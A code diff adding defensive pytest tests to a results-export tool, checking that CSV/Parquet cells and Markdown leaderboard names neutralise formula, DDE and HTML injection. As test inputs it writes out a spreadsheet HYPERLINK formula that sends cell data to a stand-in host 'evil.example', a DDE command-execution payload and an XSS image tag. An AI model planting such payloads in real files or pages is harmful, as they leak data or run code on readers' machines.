@@ -137,3 +137,41 @@ def test_a_result_path_that_is_a_symlink_is_not_replaced(tmp_path):
     with pytest.raises(UserError, match="is a symbolic link"):
         write_result(tmp_path / "r", rec)
     assert path.is_symlink() and (tmp_path / "elsewhere.json").read_text() == "{}"
+
+
+# ---------------------------------------------------------------- exports safe to open
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path, monkeypatch, capsys):
+    """Result fields edited to formulas reach --csv/--parquet as text ('=...), numbers as numbers."""
+    import pandas as pd
+
+    labels = np.array([0, 1, 2, 3, 0, 1, 2, 3])
+    rec = make_record(cls_records(labels, np.eye(4)[labels], ["g"] * 8), "accuracy")
+    rec.device = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rec.git_commit = "@SUM(1+1)*cmd|' /C calc'!A0"
+    rec.flags = ["+1+1", "-2", "\tTAB", "\rCR", "plain"]
+    write_records(tmp_path / "r", [rec])
+    code, _, _ = _lb(monkeypatch, capsys, tmp_path / "r", tmp_path / "lb.md", "--csv", str(tmp_path / "u.csv"), "--parquet", str(tmp_path / "u.parquet"))
+    assert code == 0
+    raw = (tmp_path / "u.csv").read_text()
+    assert "'=HYPERLINK" in raw and ",=HYPERLINK" not in raw and '"=HYPERLINK' not in raw
+    for df in (pd.read_csv(tmp_path / "u.csv"), pd.read_parquet(tmp_path / "u.parquet")):
+        row = df.iloc[0]
+        assert row["device"].startswith("'=") and row["git_commit"].startswith("'@") and row["flags"].startswith("'+1+1")
+        assert row["primary"] == 1.0 and row["metric.accuracy"] == 1.0 and row["seed"] == 0, "numbers stay numbers"
+        assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values)
+
+
+def test_markdown_shows_html_and_table_characters_in_names_as_text(tmp_path, monkeypatch, capsys):
+    """An encoder name with markup or a pipe cannot inject HTML, links or table columns into
+    leaderboard.md (the HTML page escapes it by building text nodes)."""
+    labels = np.array([0, 1, 2, 3, 0, 1, 2, 3])
+    name = "x<img src=y onerror=alert(1)>|![t](http://e/x.png)$\\bad{$"  # and a formula matplotlib cannot parse
+    write_records(tmp_path / "r", [make_record(cls_records(labels, np.eye(4)[labels], ["g"] * 8), "accuracy", encoder=name, sha="d" * 64)])
+    code, _, _ = _lb(monkeypatch, capsys, tmp_path / "r", tmp_path / "lb.md")
+    text = (tmp_path / "lb.md").read_text()
+    assert code == 0 and "<img" not in text and "![t](" not in text and (tmp_path / "lb-smoke-cls.png").is_file()
+    assert r"x&lt;img src=y onerror=alert(1)&gt;\|!\[t\](http://e/x.png)$\\bad{$ @dddddddddddd" in text
+    row = next(ln for ln in text.splitlines() if ln.startswith("| x&lt;img") and "linear" in ln)
+    assert len(row.replace(r"\|", "").split("|")) == 5, "encoder, protocol, one task: the pipe did not add a column"
